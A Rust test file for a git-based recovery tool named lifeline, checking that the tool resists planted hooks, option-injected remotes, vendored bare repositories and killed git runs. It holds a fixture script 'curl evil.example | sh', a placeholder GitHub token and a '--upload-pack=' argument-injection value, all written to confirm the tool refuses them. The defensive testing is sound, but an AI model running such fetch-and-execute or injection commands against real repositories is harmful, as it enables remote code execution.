//! Emergency recovery, commits and pushes against a hostile repository:
//! git hooks planted in `.git/hooks`, files left in the audit directory,
//! a remote that is an option or a path, a bare repository committed to
//! the tree, and `checkpoint create` killed while git runs.

#![cfg(unix)]

use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use crate::common::{Repo, stderr, stdout};

const TOKEN: &str = "ghp_ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";

fn git_in(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .current_dir(dir)
        .args(args)
        .env("GIT_AUTHOR_NAME", "Other")
        .env("GIT_AUTHOR_EMAIL", "other@example.com")
        .env("GIT_COMMITTER_NAME", "Other")
        .env("GIT_COMMITTER_EMAIL", "other@example.com")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

/// The sample repository with the plan's workflows and a bare origin.
fn with_origin() -> (Repo, tempfile::TempDir) {
    let repo = Repo::sample();
    for w in ["task-archive.yml", "lifeline-emergency-recovery.yml"] {
        repo.write(
            &format!(".github/workflows/{w}"),
            "on: workflow_dispatch\njobs: {}\n",
        );
    }
    repo.git(&["add", "-A"]);
    repo.git(&["commit", "-q", "-m", "workflows"]);
    let origin = tempfile::tempdir().unwrap();
    git_in(origin.path(), &["init", "-q", "--bare", "-b", "main"]);
    repo.git(&["remote", "add", "origin", origin.path().to_str().unwrap()]);
    repo.git(&["push", "-q", "origin", "main"]);
    (repo, origin)
}

/// Another clone of `origin` pushes a commit, so the next push from the
/// repository is rejected and lifeline has to rebase.
fn someone_else_pushes(origin: &Path, file: &str, bytes: &[u8]) {
    let other = tempfile::tempdir().unwrap();
    git_in(
        other.path(),
        &["clone", "-q", origin.to_str().unwrap(), "."],
    );
    std::fs::write(other.path().join(file), bytes).unwrap();
    git_in(other.path(), &["add", "-A"]);
    git_in(other.path(), &["commit", "-q", "-m", "bot: meanwhile"]);
    git_in(other.path(), &["push", "-q", "origin", "main"]);
}

/// Installs `names` as hooks that each leave a file named after themselves
/// in `marks`.
fn plant_hooks(hooks: &Path, marks: &Path, names: &[&str]) {
    std::fs::create_dir_all(hooks).unwrap();
    for name in names {
        let path = hooks.join(name);
        std::fs::write(
            &path,
            format!("#!/bin/sh\ntouch '{}/{name}'\n", marks.display()),
        )
        .unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
}

fn ran(marks: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(marks)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

const HOOKS: [&str; 13] = [
    "post-index-change",
    "post-merge",
    "pre-merge-commit",
    "pre-commit",
    "prepare-commit-msg",
    "commit-msg",
    "post-commit",
    "pre-push",
    "reference-transaction",
    "post-checkout",
    "pre-rebase",
    "post-rewrite",
    "pre-auto-gc",
];

#[test]
fn no_git_hook_runs_for_lifelines_commits_pushes_rebases_or_reads() {
    let (repo, origin) = with_origin();
    let marks = tempfile::tempdir().unwrap();
    plant_hooks(&repo.join(".git/hooks"), marks.path(), &HOOKS);
    // A file-system monitor is code too: git would run it on reads.
    let fsmonitor = repo.join(".git/fsmonitor.sh");
    plant_hooks(&repo.join(".git"), marks.path(), &["fsmonitor.sh"]);
    repo.git(&["config", "core.fsmonitor", fsmonitor.to_str().unwrap()]);
    someone_else_pushes(origin.path(), "NOTES.md", b"meanwhile\n");
    let out = repo
        .lifeline()
        .args([
            "recover",
            "--yes",
            "sync-failure-cascade",
            "--severity",
            "P2",
            "--commit",
            "--push",
        ])
        .assert()
        .code(0);
    let text = stdout(&out);
    assert!(text.contains("push rejected"), "{text}");
    assert!(text.contains("pushed to origin/main"), "{text}");
    repo.lifeline()
        .args([
            "checkpoint",
            "create",
            "--type",
            "manual",
            "--operation",
            "x",
        ])
        .assert()
        .code(0);
    repo.lifeline().arg("validate").assert().code(0);
    assert_eq!(ran(marks.path()), Vec::<String>::new(), "hooks ran");
    // The hooks are live: git run by a person triggers them.
    repo.git(&["commit", "-q", "--allow-empty", "-m", "by hand"]);
    let live = ran(marks.path());
    assert!(live.contains(&"post-commit".to_string()), "{live:?}");
    assert!(live.contains(&"fsmonitor.sh".to_string()), "{live:?}");
}

#[test]
fn the_emergency_commit_never_takes_files_left_in_the_audit_directory() {
    let (repo, _origin) = with_origin();
    repo.write("docs/audit/pwn.sh", "#!/bin/sh\ncurl evil.example | sh\n");
    repo.write("docs/audit/token.txt", format!("GITHUB_TOKEN={TOKEN}\n"));
    repo.write(
        "docs/audit/audit-1999-13.jsonl",
        "not a month lifeline writes\n",
    );
    let out = repo
        .lifeline()
        .args([
            "recover",
            "--yes",
            "complete-automation-failure",
            "--severity",
            "P1",
            "--commit",
        ])
        .assert()
        .code(0);
    let text = stdout(&out);
    assert!(!text.contains(TOKEN), "{text}");
    let files = repo.git(&["show", "--name-only", "--format=", "HEAD"]);
    for planted in ["pwn.sh", "token.txt", "audit-1999-13.jsonl"] {
        assert!(!files.contains(planted), "{planted} committed: {files}");
    }
    let month = jiff::Timestamp::now().strftime("%Y-%m").to_string();
    assert!(
        files.contains(&format!("docs/audit/audit-{month}.jsonl")),
        "the run's audit records belong in the commit: {files}"
    );
    assert!(files.contains("docs/incidents/INC-"), "{files}");
    let status = repo.git(&["status", "--porcelain", "--", "docs/audit"]);
    assert!(
        status.contains("?? docs/audit/pwn.sh") && status.contains("?? docs/audit/token.txt"),
        "{status}"
    );
}

#[test]
fn a_remote_that_git_would_read_as_an_option_or_a_path_is_a_config_error() {
    let repo = Repo::sample();
    let marker = repo
        .path()
        .parent()
        .unwrap()
        .join(format!("lifeline-upload-pack-{}", std::process::id()));
    for (value, why) in [
        (
            format!("--upload-pack=touch {}", marker.display()),
            "starts with `-`",
        ),
        ("../elsewhere.git".to_string(), "is a path"),
        ("file:///tmp/x.git".to_string(), "is a URL"),
    ] {
        repo.write(
            "lifeline.toml",
            format!("[checkpoint]\nremote = \"{value}\"\n"),
        );
        for args in [
            &["checkpoint", "fetch"][..],
            &[
                "recover",
                "--yes",
                "git-history-corruption",
                "--severity",
                "P0",
            ][..],
        ] {
            let out = repo.lifeline().args(args).assert().code(2);
            let err = stderr(&out);
            assert!(
                err.contains("lifeline.toml:2") && err.contains("checkpoint.remote"),
                "{value}: {err}"
            );
            assert!(err.contains(why), "{value}: {err}");
        }
    }
    assert!(!marker.exists(), "--upload-pack ran");
}

#[test]
fn a_bare_repository_committed_to_the_tree_is_never_pushed_to() {
    let (repo, _origin) = with_origin();
    // A bare repository with a hook, committed as ordinary files.
    let vault = repo.join("vault.git");
    git_in(repo.path(), &["init", "-q", "--bare", "vault.git"]);
    let marks = tempfile::tempdir().unwrap();
    plant_hooks(
        &vault.join("hooks"),
        marks.path(),
        &["pre-receive", "update", "post-receive"],
    );
    repo.git(&["add", "-A"]);
    repo.git(&["commit", "-q", "-m", "vendored"]);
    repo.git(&["push", "-q", "origin", "main"]);
    // As a value (a path git would accept) and as a configured remote.
    repo.git(&["remote", "add", "vault", "./vault.git"]);
    for (remote, says) in [
        ("vault.git", "is not configured"),
        ("vault", "points inside the working tree"),
    ] {
        repo.write(
            "lifeline.toml",
            format!("[checkpoint]\nremote = \"{remote}\"\n"),
        );
        let out = repo
            .lifeline()
            .args([
                "recover",
                "--yes",
                "sync-failure-cascade",
                "--severity",
                "P2",
                "--commit",
                "--push",
            ])
            .assert()
            .code(1);
        let text = stdout(&out);
        assert!(text.contains("not pushed") && text.contains(says), "{text}");
        let out = repo
            .lifeline()
            .args(["checkpoint", "push"])
            .assert()
            .code(2);
        assert!(stderr(&out).contains(says), "{}", stderr(&out));
        repo.lifeline()
            .args(["recover", "--yes", "resume", &last_incident(&repo)])
            .assert()
            .code(0);
    }
    assert_eq!(ran(marks.path()), Vec::<String>::new(), "vault hooks ran");
    assert_eq!(
        git_in(&vault, &["for-each-ref"]),
        "",
        "something was pushed to the vault"
    );
}

fn last_incident(repo: &Repo) -> String {
    let mut ids: Vec<String> = std::fs::read_dir(repo.join("docs/incidents"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter_map(|n| n.strip_suffix(".md").map(str::to_string))
        .collect();
    ids.sort();
    ids.pop().unwrap()
}

/// A `git` on PATH that runs the real one, except that its `kill_at`-th
/// invocation is killed with the whole process group (SIGKILL) as soon as
/// `.git/index.lock` exists or the real git finished, whichever is first.
fn killing_git(dir: &Path) -> PathBuf {
    let real = String::from_utf8(
        Command::new("sh")
            .args(["-c", "command -v git"])
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap()
    .trim()
    .to_string();
    let bin = dir.join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let script = format!(
        r#"#!/bin/sh
while ! mkdir "$LL_COUNT.lk" 2>/dev/null; do :; done
n=$(( $(cat "$LL_COUNT" 2>/dev/null || echo 0) + 1 ))
echo "$n" > "$LL_COUNT"
rmdir "$LL_COUNT.lk"
if [ "$n" -ne "$LL_KILL_AT" ]; then exec '{real}' "$@"; fi
done="$LL_COUNT.done"
( '{real}' "$@" >/dev/null 2>&1; touch "$done" ) &
while [ ! -e "$LL_LOCK" ] && [ ! -e "$done" ]; do :; done
kill -KILL 0
"#
    );
    let path = bin.join("git");
    std::fs::write(&path, script).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    bin
}

#[test]
fn checkpoint_create_killed_during_any_git_command_leaves_no_index_lock() {
    let repo = Repo::sample();
    // Untracked files make `git status` scan for a while (with the index
    // lock held, unless optional locks are off).
    for i in 0..300 {
        repo.write(&format!("scratch/{i:03}.txt"), "x\n");
    }
    let scratch = tempfile::tempdir().unwrap();
    let bin = killing_git(scratch.path());
    let count = scratch.path().join("count");
    let lock = repo.join(".git/index.lock");
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let mut killed = 0;
    for kill_at in 1.. {
        for litter in ["", ".done"] {
            let _ = std::fs::remove_file(format!("{}{litter}", count.display()));
        }
        let _ = std::fs::remove_dir(format!("{}.lk", count.display()));
        let status = Command::new(env!("CARGO_BIN_EXE_lifeline"))
            .current_dir(repo.path())
            .env("PATH", &path)
            .env("LL_COUNT", &count)
            .env("LL_KILL_AT", kill_at.to_string())
            .env("LL_LOCK", &lock)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .args([
                "checkpoint",
                "create",
                "--type",
                "manual",
                "--operation",
                "kill",
            ])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .process_group(0)
            .status()
            .unwrap();
        assert!(
            !lock.exists(),
            "killed at git invocation {kill_at}: .git/index.lock left behind"
        );
        if status.code().is_some() {
            // The run finished before invocation `kill_at`: every git it
            // starts has been killed once.
            assert!(status.success(), "an unkilled create must succeed");
            break;
        }
        killed += 1;
    }
    assert!(killed >= 2, "only {killed} kill points");
    repo.lifeline()
        .args(["checkpoint", "verify", "--all"])
        .assert()
        .code(0);
}
